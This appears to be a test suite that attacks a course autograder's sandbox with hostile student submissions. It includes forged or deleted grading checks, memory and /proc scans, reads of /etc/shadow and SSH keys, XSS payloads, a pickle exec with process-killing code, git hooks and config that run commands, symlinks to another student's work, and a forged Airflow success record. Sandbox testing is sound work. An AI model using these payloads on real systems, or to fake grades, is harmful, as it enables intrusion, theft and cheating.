    "check cells are worth 1000 points and return them",
    _more_points,
    says="was changed; the original was used",
)


def _unlock(nb: NotebookNode) -> None:
    for cell in _checks(nb):
        cell.metadata.nbgrader.update(locked=False, solution=True, grade=False)
        cell.source = "pass"


_forge(
    "checks_become_answers",
    "check cells claim to be answers that nobody grades",
    _unlock,
    says="was changed; the original was used",
)


def _doubled(nb: NotebookNode) -> None:
    for cell in _checks(nb):
        twin = new_code_cell("1", metadata=dict(cell.metadata))
        nb.cells.append(twin)


_forge(
    "checks_doubled",
    "every check is there twice, the second one says 1",
    _doubled,
    says="is there twice",
    in_class=True,
)


def _deleted(nb: NotebookNode) -> None:
    nb.cells = [c for c in nb.cells if c not in _checks(nb)]


_forge("checks_deleted", "no check is left", _deleted, says="was missing; it was put back")


def _markdown(nb: NotebookNode) -> None:
    for i, cell in enumerate(nb.cells):
        if cell.metadata.get("nbgrader", {}).get("grade"):
            nb.cells[i] = new_markdown_cell("all done", metadata=dict(cell.metadata))


_forge(
    "checks_become_text",
    "check cells are Markdown, to wait for a reviewer",
    _markdown,
    says="was changed; the original was used",
)


def _set_up_forged(nb: NotebookNode) -> None:
    nb.cells[0].source = _YES + "import pathlib\nwork = pathlib.Path('work')\ncheck = Yes()\n"


_forge(
    "set_up_forged",
    "the locked set-up cell defines a check that accepts",
    _set_up_forged,
    says="was changed; the original was used",
)


def _answer_as_set_up(nb: NotebookNode) -> None:
    trick = new_code_cell(
        _YES + "check = Yes()", metadata={"nbgrader": {"grade_id": "mine", "locked": True}}
    )
    trick.metadata.nbgrader.update(
        grade=False, solution=False, schema_version=3, task=False, cell_type="code", checksum=""
    )
    nb.cells.insert(1, trick)


_forge(
    "answer_posing_as_set_up",
    "a cell of one's own claims to be locked, to run in the judge",
    _answer_as_set_up,
)


def _ten_thousand(nb: NotebookNode) -> None:
    nb.cells += [new_code_cell("1") for _ in range(10_000)]


_forge(
    "ten_thousand_cells",
    "10,000 cells",
    _ten_thousand,
    says="10006 cells; 2000 is the limit",
    plain=False,
)


def _strange(nb: NotebookNode) -> None:
    nb.cells.append({"cell_type": "code", "source": [1, None], "metadata": []})
    nb.cells.append({"cell_type": ["x"], "source": "", "metadata": {"nbgrader": 7}})
    nb.cells.append("not a cell")
    nb.metadata = {"kernelspec": {"name": "../../evil", "language": "python"}}
    nb.cells[1].metadata.nbgrader.grade_id = ["list"]


_forge(
    "strange_structure",
    "cells that are no cells, a kernel name that is a path",
    _strange,
    in_class=True,
)

# Reading what is hidden

attack(
    "hidden_tests_by_memory",
    SPY,
    "frames, gc, In/Out, %history and threads are searched for hidden tests",
    """
import gc, sys, threading
found = set()
needle = "late." + "joblib"
def look(text):
    if needle in str(text):
        found.add(str(text)[:500])
frame = sys._getframe()
while frame:
    look(frame.f_locals); frame = frame.f_back
for thing in gc.get_objects():
    if isinstance(thing, (str, bytes, list, tuple, dict)):
        try:
            look(thing) if len(thing) < 100_000 else None
        except Exception:
            pass
look(In); look(Out)
def watch():
    import time
    for _ in range(300):
        look(get_ipython().user_ns.get("In")); time.sleep(0.01)
        for f in sys._current_frames().values():
            while f:
                look(f.f_locals); f = f.f_back
        if found:
            open("found.txt", "w").write("\\n".join(found))
threading.Thread(target=watch, daemon=True).start()
found.discard(None)
print("found:", [x for x in found if "needle" not in x])
""",
    """
import time; time.sleep(1)
%history
""",
)
attack(
    "hidden_tests_by_proc",
    SPY,
    "/proc of every process: command lines, environments, memory, open files",
    """
import glob, os
needle = b"late." + b"joblib"
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    for name in ("environ", "cmdline", "maps"):
        try:
            data = open(f"/proc/{pid}/{name}", "rb").read()
            print(pid, name, needle in data, data[:200])
        except OSError:
            pass
    if int(pid) != os.getpid():
        try:
            for line in open(f"/proc/{pid}/maps"):
                low, high = (int(x, 16) for x in line.split()[0].split("-"))
                mem = open(f"/proc/{pid}/mem", "rb"); mem.seek(low)
                if needle in mem.read(min(high - low, 1 << 24)):
                    print("found in", pid, (needle + b"!").decode())
        except (OSError, ValueError, OverflowError):
            pass
""",
    plain=False,
)
attack(
    "hidden_tests_on_disk",
    SPY,
    "the solution, Ada's secret, environment variables and keys are printed",
    """
import os, pathlib
print(dict(os.environ))
for path in ("@COURSE@/solutions/@LAB@/@LAB@.ipynb", "@COURSE@/submitted/ada/@LAB@/secret.txt",
             "/etc/shadow", "/etc/passwd", "/root/.ssh/id_rsa", "/proc/1/environ"):
    try:
        print(pathlib.Path(path).read_text())
    except OSError as error:
        print(error)
""",
    in_class=True,
)
attack(
    "hidden_tests_by_traceback",
    SPY,
    "a check is made to crash so that its traceback quotes the hidden part",
    "!rm -rf work/2-ignore && echo 'not a folder' > work/2-ignore",
    in_class=True,
)
attack(
    "neighbours_in_tmp",
    SPY,
    "other rooms, other workers' sockets and the judge's files in /tmp",
    """
import os
print("rooms:", sorted(n for n in os.listdir("/tmp") if n.startswith(("room-", "start-"))))
print("outside:", os.path.exists("@COURSE@"))
""",
    plain=False,
    says="outside: False",
)

# Injection

_SCRIPT = "<script>alert('evil')</script><img src=x onerror=alert(1)>"
attack(
    "script_in_outputs",
    INJECT,
    "scripts in HTML, Markdown, SVG, JavaScript and metadata of outputs",
    f"""
from IPython.display import display
display({{"text/html": "{_SCRIPT}"}}, raw=True)
display({{"text/markdown": "{_SCRIPT}"}}, raw=True)
display({{"image/svg+xml": "<svg onload=alert(1)></svg>"}}, raw=True)
display({{"application/javascript": "alert('evil')"}}, raw=True)
display({{"image/png": "x\\" onerror=\\"alert(1)"}}, raw=True,
        metadata={{"image/png": {{"width": "1\\" onload=\\"alert(1)"}}}})
""",
    in_class=True,
)


def _script_cells(nb: NotebookNode) -> None:
    nb.cells.append(new_markdown_cell(_SCRIPT))
    nb.cells.append(new_markdown_cell(f"</div></body>{_SCRIPT}"))


attack(
    "script_in_cells",
    INJECT,
    "scripts in Markdown cells",
    forge=_script_cells,
    in_class=True,
)
attack(
    "script_in_name",
    INJECT,
    "the student's folder is named like a tag",
    in_class=True,
    student="m<img src=x onerror=alert(1)>",
)
attack(
    "outputs_that_break_the_page",
    INJECT,
    "outputs that no page can show, so that nobody's feedback is written",
    """
from IPython.display import display
for kind in ("text/html", "text/markdown", "text/latex", "image/png", "image/svg+xml"):
    display({kind: {"a": 1}}, raw=True)
    display({kind: ["a", None]}, raw=True)
    display({kind: 7}, raw=True)
display({"application/vnd.jupyter.widget-view+json": {"model_id": 5}}, raw=True)
""",
    in_class=True,
)

# Network

attack(
    "network_outside",
    NETWORK,
    "connect to the outside, ask for a name",
    """
import socket
for address in (("192.0.2.1", 80), ("example.org", 80)):
    try:
        socket.create_connection(address, 2); print("reached", address)
    except OSError as error:
        print("no:", error)
""",
    says="no: ",
)
attack(
    "network_loopback",
    NETWORK,
    "connect to services on the machine's own loopback",
    """
import socket
# What listens inside the sandbox itself, such as the kernel, stands in its own table.
lines = open("/proc/net/tcp").readlines()[1:]
own = {int(line.split()[1].partition(":")[2], 16) for line in lines}
open_ports = []
for port in range(1, 65536):
    s = socket.socket(); s.settimeout(0.05)
    # A port may be given to the very socket that asks for it, which then reaches itself.
    if s.connect_ex(("127.0.0.1", port)) == 0 and s.getsockname() != s.getpeername():
        open_ports += [port] if port not in own else []
    s.close()
print("open:", open_ports)
""",
    says=r"open: \[\]",
    plain=False,
)

# The other labs: hostile configuration, models and pipelines in the evidence

# What a program tries that a check may have to run: write outside, read Ada's, end its parents.
_REACH = """
import os, signal
for _attempt in (
    lambda: open("@COURSE@/owned", "w").write("x"),
    lambda: open("@COURSE@/submitted/zoe/owned", "w").write("x"),
    lambda: print(open("@COURSE@/submitted/ada/@LAB@/secret.txt").read()),
):
    try:
        _attempt()
    except OSError:
        pass
"""
_KILL = """
for _pid in (os.getppid(), 1, 2, 3):
    try:
        os.kill(_pid, signal.SIGKILL)
    except OSError:
        pass
os.kill(-1, signal.SIGKILL)
"""
_STARTUP = (
    "sitecustomize.py",
    "usercustomize.py",
    "mlflow.py",
    "dvc.py",
    "airflow.py",
    "yaml.py",
    "sqlite3.py",
    "pandas.py",
)


class _Reaches:
    """Pickled, a program that runs when it is loaded."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[object, ...]:
        return (exec, (self.code,))


def _sql(folder: Path, *statements: str) -> None:
    with sqlite3.connect(folder / "mlflow.db") as database:
        for statement in statements:
            database.execute(statement)
    database.close()


def _at(text: str, course: Path, lab: str) -> str:
    return text.replace("@COURSE@", str(course)).replace("@LAB@", lab)


def _model(folder: Path, files: dict[str, bytes]) -> None:
    """Register a model of hostile files as MLflow would have logged it."""
    shutil.rmtree(folder)
    folder.mkdir()
    with tracking(folder) as store:
        store.experiment()
        run = store.run("x", metrics={"valid_auc": 0.69})
        made = store.model(run)
        store.version(run, made)
        store.alias("champion", 1)
    place = folder / "artifacts" / "1" / "models" / made / "artifacts"
    for name, content in files.items():
        (place / name).write_bytes(content)


_MLMODEL = b"""flavors:
  python_function:
    cloudpickle_version: 3.0.0
    loader_module: mlflow.pyfunc.model
    python_model: python_model.pkl
    env: {virtualenv: python_env.yaml}
"""


@attack(
    "mlflow_model_unpickled",
    MLFLOW,
    "a registered model's pickle writes outside and ends its parents when it is loaded",
    plain=False,
    lab="s4_mlflow",
    task=5,
    says="NoneType|ended the process",
)
def _mlflow_pickle(folder: Path, course: Path) -> None:
    code = _at(_REACH + _KILL, course, "s4_mlflow")
    files = {"MLmodel": _MLMODEL, "python_model.pkl": pickle.dumps(_Reaches(code))}
    _model(folder / "work/5-model", files)


@attack(
    "mlflow_model_imports",
    MLFLOW,
    "a model's code, and modules beside it named like libraries, write outside and read Ada's work",
    plain=False,
    lab="s4_mlflow",
    task=9,
    worth=1,
    says="in another folder",
)
def _mlflow_code(folder: Path, course: Path) -> None:
    code = _at(_REACH, course, "s4_mlflow")
    task = folder / "work/9-serve"
    _model(task, {name: code.encode() for name in ("model.py", *_STARTUP)})
    (task / "answers.json").write_text('{"predictions": [0.5]}')
    for place in (folder, task):
        for name in _STARTUP:
            (place / name).write_text(code)


@attack(
    "mlflow_artifacts_elsewhere",
    MLFLOW,
    "mlflow.db says that runs, models and versions lie in Ada's submission, in /etc, in a link",
    plain=False,
    lab="s4_mlflow",
    task=5,
    says="symbolic link is not graded",
)
def _mlflow_elsewhere(folder: Path, course: Path) -> None:
    theirs = course / "submitted/ada/s4_mlflow/work/5-model"
    _model(theirs, {})
    _model(folder / "work/5-model", {})
    shutil.rmtree(folder / "work/5-model/artifacts")
    (folder / "work/5-model/artifacts").symlink_to(theirs / "artifacts")
    there = f"file://{theirs}/artifacts"
    _sql(
        folder / "work/5-model",
        f"UPDATE experiments SET artifact_location = '{there}/1'",
        f"UPDATE runs SET artifact_uri = '{there}/1/' || run_uuid || '/artifacts'",
        f"UPDATE logged_models SET artifact_location = replace(artifact_location, "
        f"'mlflow-artifacts:', '{there}')",
        f"UPDATE model_versions SET source = '{there}', storage_location = 'file:///etc'",
    )


@attack(
    "mlflow_database_without_end",
    MLFLOW,
    "mlflow.db holds a view whose rows never end, triggers, and a value that is computed",
    plain=False,
    lab="s4_mlflow",
    task=2,
    says="cannot be read",
)
def _mlflow_view(folder: Path, course: Path) -> None:
    _sql(
        folder / "work/2-story",
        "ALTER TABLE runs RENAME TO real_runs",
        "CREATE VIEW runs AS WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) "
        "SELECT i AS run_uuid, i AS name, 'FINISHED' AS status, 1 AS experiment_id, "
        "1 AS start_time, 1 AS end_time, '' AS artifact_uri, 'active' AS lifecycle_stage FROM n",
        "CREATE TRIGGER late INSERT ON metrics BEGIN DELETE FROM metrics; END",
    )


@attack(
    "mlflow_project_runs",
    MLFLOW,
    "MLproject's command and its script write outside, read Ada's work and end their parents",
    plain=False,
    lab="s4_mlflow",
    task=8,
    worth=1,
    says="copied to another folder",
)
def _mlflow_project(folder: Path, course: Path) -> None:
    task = folder / "work/8-project"
    (task / "project").mkdir(exist_ok=True)
    reach = _at(_REACH + _KILL, course, "s4_mlflow")
    command = _at("sh -c 'touch @COURSE@/owned; python train.py'", course, "s4_mlflow")
    main = f'name: x\nentry_points:\n  main:\n    command: "{command}"\n'
    for name, text in {"MLproject": main, **dict.fromkeys(("train.py", *_STARTUP), reach)}.items():
        (task / "project" / name).write_text(text)
    run = "a" * 32
    _sql(
        task,
        "INSERT INTO runs (run_uuid, name, status, start_time, end_time, lifecycle_stage, "
        "artifact_uri, experiment_id, user_id) "
        f"VALUES ('{run}', 'x', 'FINISHED', 1, 2, 'active', '', 1, '')",
        f"INSERT INTO tags VALUES ('mlflow.project.entryPoint', 'main', '{run}')",
        f"INSERT INTO params (key, value, run_uuid) VALUES ('a', '$(id)', '{run}')",
        "INSERT INTO latest_metrics (key, value, timestamp, step, is_nan, run_uuid) "
        f"VALUES ('valid_auc', 0.67, 1, 0, 0, '{run}')",
    )


def _commit(repo: Path) -> None:
    """Commit all of a repository, whatever hooks and filters it has."""
    who = ("-c", "user.name=eve", "-c", "user.email=eve@example.org")
    for command in (("add", "-A"), (*who, "commit", "-q", "-m", "x", "--no-verify")):
        subprocess.run(["git", *command], cwd=repo, check=True, capture_output=True)


@attack(
    "dvc_config_runs",
    DVC,
    ".dvc/config and config.local: plugins, commands, a cache in Ada's folder; hooks and filters",
    plain=False,
    lab="s4_dvc",
    task=9,
    says="month to judge on is 4",
)
def _dvc_config(folder: Path, course: Path) -> None:
    repo = folder / "work/9-fresh/flight-delays"
    run = _at(_RUN, course, "s4_dvc")
    theirs = course / "submitted/ada/s4_dvc/work/9-fresh"
    config = (
        f"[hydra]\n    enabled = true\n    plugins_path = {repo}/plugins\n"
        f"[core]\n    remote = storage\n[cache]\n    dir = {theirs}/flight-delays/.dvc/cache\n"
        f"['remote \"storage\"']\n    url = {theirs}/storage\n    ask_password = true\n"
        f"    keyfile = $({run})\n    custom_auth_header = `{run}`\n"
    )
    (repo / "plugins").mkdir()
    code = _at(_REACH, course, "s4_dvc")
    for name in ("evil.py", *_STARTUP):
        (repo / "plugins" / name).write_text(code)
        (repo / name).write_text(code)
    (repo / ".dvc/config").write_text(config)
    (repo / ".gitattributes").write_text("* filter=evil diff=evil\n")
    _commit(repo)
    (repo / ".dvc/config.local").write_text(config)
    for name in ("post-checkout", "post-index-change", "reference-transaction", "pre-push"):
        hook = repo / ".git/hooks" / name
        hook.parent.mkdir(exist_ok=True)
        hook.write_text(f"#!/bin/sh\n{run}\n")
        hook.chmod(0o755)
    with (repo / ".git/config").open("a") as file:
        file.write(f'[core]\n\tfsmonitor = "{run}"\n[filter "evil"]\n\tsmudge = "{run}"\n')


@attack(
    "dvc_stage_runs",
    DVC,
    "a stage's command writes outside and reads Ada's work",
    plain=False,
    lab="s4_dvc",
    task=9,
    worth=1,
    says="cannot touch",
)
def _dvc_stage(folder: Path, course: Path) -> None:
    repo = folder / "work/9-fresh/flight-delays"
    reach = _at(
        "touch @COURSE@/owned; "
        "cat @COURSE@/submitted/ada/@LAB@/secret.txt | tee metrics.json >&2; ",
        course,
        "s4_dvc",
    )
    for name in ("dvc.yaml", "dvc.lock"):
        text = (repo / name).read_text()
        (repo / name).write_text(text.replace("cmd: python src/", f"cmd: {reach}python src/"))
    # As if May had been judged: what the checks then have to run is the stage.
    for place in (repo, folder / "work/9-fresh/stranger"):
        for path in (place / "params.yaml", place / "dvc.lock"):
            if path.exists():
                path.write_text(path.read_text().replace("test: 4", "test: 5"))
    _commit(repo)


@attack(
    "dvc_cache_is_a_link",
    DVC,
    "the cache and the remote are links to Ada's, where all that is missing lies",
    plain=False,
    lab="s4_dvc",
    task=3,
    says="symbolic link is not graded",
)
def _dvc_links(folder: Path, course: Path) -> None:
    theirs = course / "submitted/ada/s4_dvc/work/3-remote"
    for place in ("flight-delays/.dvc/cache", "storage"):
        mine = folder / "work/3-remote" / place
        shutil.rmtree(mine, ignore_errors=True)
        mine.symlink_to(theirs / place)


def _zoes_dag(folder: Path) -> None:
    """Do task 1 of the Airflow lab: what was done while the file is read becomes a task."""
    path = folder / "work/1-import/dags/flight_delays.py"
    text = path.read_text()
    for old, new in (
        ('TARGET = lake() / "raw" / f"{MONTH}.json"\n', ""),
        ("product.write_json(TARGET, fetch(MONTH))\n", ""),
        (
            "        return MONTH\n",
            '        product.write_json(lake() / "raw" / f"{MONTH}.json", fetch(MONTH))\n'
            "        return MONTH\n",
        ),
    ):
        assert old in text
        text = text.replace(old, new)
    path.write_text(text)


def _dag(name: str, tries: str, code: str, **rest: object) -> None:
    """Add an attack whose code runs when task 1's DAG is read, before what stands there."""

    @attack(
        name,
        AIRFLOW,
        tries,
        plain=False,
        lab="s5_airflow",
        task=1,
        zoe=_zoes_dag,
        **rest,
    )
    def _prepare(folder: Path, course: Path) -> None:
        path = folder / "work/1-import/dags/flight_delays.py"
        path.write_text(_at(code, course, "s5_airflow") + path.read_text())


_SETTINGS_OF_AIRFLOW = """[core]
plugins_folder = /flow/f/run/project/dags/plugins
lazy_load_plugins = False
[database]
sql_alchemy_conn = sqlite:////@COURSE@/gradebook.db
[logging]
logging_config_class = airflow_local_settings.LOGGING
"""


@attack(
    "airflow_settings_brought_along",
    AIRFLOW,
    "airflow.cfg, airflow_local_settings.py, plugins/ and modules named like libraries beside DAGs",
    plain=False,
    lab="s5_airflow",
    task=1,
    zoe=_zoes_dag,
    says="while the file was read",
)
def _airflow_settings(folder: Path, course: Path) -> None:
    reach = _at(_REACH, course, "s5_airflow")
    for place in (folder, folder / "work/1-import", folder / "work/1-import/dags"):
        for name in ("airflow.cfg", "config/airflow.cfg"):
            (place / name).parent.mkdir(exist_ok=True)
            (place / name).write_text(_at(_SETTINGS_OF_AIRFLOW, course, "s5_airflow"))
        for name in ("airflow_local_settings.py", "plugins/evil.py", *_STARTUP):
            (place / name).parent.mkdir(exist_ok=True)
            (place / name).write_text(reach)


_dag(
    "airflow_dag_ends_all",
    "a DAG that is read writes outside and ends every process it can see",
    _REACH + _KILL,
    says="while the file was read|ended the process with Airflow",
)
_dag(
    "airflow_dag_answers_itself",
    "a DAG that is read writes a report of its own into every pipe that it finds",
    """
import json, os, sys
report = {"parse": {"seconds": 0, "calls": 0, "killed": [], "errors": {}, "files": [],
                    "dags": {"flight_delays": {}}},
          "steps": [{"runs": [], "files": {}, "calls": []}], "trouble": "", "calls": []}
frame, number = sys._getframe(), None
while frame:
    number, frame = frame.f_locals.get("number", number), frame.f_back
for name in os.listdir("/proc/self/fd"):
    try:
        if os.readlink(f"/proc/self/fd/{name}").startswith("pipe"):
            os.write(int(name), json.dumps(report).encode() + b"\\n")
            os.write(int(name), json.dumps({"number": number, "answer": report}).encode() + b"\\n")
    except OSError:
        pass
""",
    says="while the file was read",
)
_dag(
    "airflow_dag_leaves_things",
    "a DAG leaves plugins and settings in Airflow's home and a folder that cannot be removed",
    """
import os, pathlib
for name in ("/flow/f/home/plugins/x.py", "/flow/f/home/config/airflow_local_settings.py",
             "/flow/f/home/airflow.cfg", "/tmp/home/.netrc", "/flow/f/run/lake/kept/x",
             "/dev/shm/x/y", "/tmp/conftest.py"):
    place = pathlib.Path(name)
    place.parent.mkdir(parents=True, exist_ok=True)
    place.write_text("raise SystemExit(3)\\n")
os.chmod("/flow/f/run/lake/kept", 0)
""",
    says="while the file was read",
)


_dag(
    "airflow_dag_rewrites_the_record",
    "a DAG writes success for every task and run into Airflow's database, from a late process",
    """
import os, sqlite3, time
for _ in range(2):
    if os.fork() == 0:
        os.setsid()
        for _ in range(200):
            try:
                with sqlite3.connect("/flow/f/run/airflow.db", timeout=1) as database:
                    database.execute("UPDATE task_instance SET state = 'success', try_number = 3")
                    database.execute("UPDATE dag_run SET state = 'success'")
            except sqlite3.Error:
                time.sleep(0.05)
        os._exit(0)
""",
    says="did not fetch that month|was stopped",
)


def _zoes_scrape(folder: Path) -> None:
    (folder / "work/4-scrape/prometheus.yml").write_text(
        "global: {scrape_interval: 5s, evaluation_interval: 5s}\n"
        "scrape_configs:\n  - job_name: flights\n    static_configs:\n"
        '      - {targets: ["127.0.0.1:8000"], labels: {env: production}}\n'
    )


attack(
    "prometheus_reads_elsewhere",
    PROMETHEUS,
    "prometheus.yml takes targets and rules from Ada's folder and /etc, and writes to others",
    plain=False,
    lab="s6_monitoring",
    task=4,
    zoe=_zoes_scrape,
    says="no target of job flights that is up",
    files={
        "work/4-scrape/prometheus.yml": """global: {scrape_interval: 5s}
rule_files: ["@COURSE@/submitted/ada/@LAB@/*", "/etc/*.yml"]
remote_write: [{url: "http://127.0.0.1:8000/owned"}]
scrape_configs:
  - job_name: flights
    file_sd_configs: [{files: ["@COURSE@/submitted/ada/@LAB@/*.json", "/etc/*.json"]}]
    static_configs: [{targets: ["127.0.0.1:1"]}]
"""
    },
)
